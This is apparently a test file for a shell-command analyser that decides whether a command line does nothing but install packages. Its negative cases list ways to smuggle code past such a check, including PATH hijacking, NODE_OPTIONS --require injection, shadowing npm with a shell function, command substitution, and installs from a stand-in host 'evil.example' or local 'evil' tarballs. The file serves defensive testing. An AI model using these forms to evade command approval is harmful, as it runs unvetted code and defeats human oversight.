/** Which command lines install packages and do nothing else by their words. */
import assert from "node:assert/strict";
import { analyse } from "../../../src/lib/shell/analyse";
import { installsPackages } from "../../../src/lib/shell/packageInstalls";

describe("command lines that install packages", () => {
  for (const command of [
    "npm ci",
    "npm install",
    "npm i -D @types/node@^22.1.0 typescript",
    "cd packages/a && npm ci --no-audit 2>&1 | tail -5",
    "pnpm add -w lodash@latest >/dev/null",
    "pnpm install --frozen-lockfile; echo done: $?",
    "yarn",
    "yarn --frozen-lockfile",
    "yarn remove left-pad",
    "bun install",
    "bundle install --quiet",
  ])
    it(`are such as ${command}`, () => assert.equal(installsPackages(analyse(command)), true));

  for (const command of [
    "echo npm ci",
    "npm",
    "npm test",
    "npm run install",
    "npm exec install",
    "npm it",
    "npm rebuild",
    "./npm ci",
    "sudo npm ci",
    "npx npm ci",
    "npm ci && node build.js",
    "npm ci; npm run build",
    "npm ci >node_modules/p/index.js",
    "echo x >node_modules/p/index.js; npm ci",
    "NODE_OPTIONS=--require=./x npm ci",
    "export PATH=.:$PATH; npm ci",
    "printf -v PATH %s .; npm ci",
    "echo $((PATH=1)); npm ci",
    "npm() { node x; }; npm ci",
    "npm install --script-shell=./sh",
    "npm install --script-shell ./sh",
    "npm install --node-options=--require=./x",
    "npm install --userconfig=x",
    "npm install --prefix other",
    "npm install ./evil",
    "npm install file:evil",
    "npm install evil/prettier",
    "npm install prettier@npm:evil",
    "npm install prettier@..",
    "npm install evil.tgz",
    "npm install git+https://evil.example/x",
    "npm install $NAME",
    "npm install *",
    "npm install ~/x",
    'npm install "$(node x)"',
    "npm ci <<<x",
    "pip install x",
  ])
    it(`are not such as ${command}`, () => assert.equal(installsPackages(analyse(command)), false));
});
